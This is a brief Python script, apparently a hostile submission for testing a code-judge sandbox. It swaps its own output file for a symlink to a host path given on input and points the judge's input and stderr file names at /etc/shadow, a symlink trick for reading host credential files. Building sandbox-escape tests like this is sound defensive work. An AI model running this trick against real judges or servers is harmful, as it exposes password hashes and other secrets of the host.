"""Writes its answer, then replaces its own output file with a symlink to the host file named
in the input, and leaves symlinks at the judge's other file names too."""
import os
import sys

secret = sys.stdin.read().strip()
print("contained", flush=True)
os.unlink("output.txt")
os.symlink(secret, "output.txt")
for name in ("input.txt", "stderr.txt"):
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink("/etc/shadow", name)
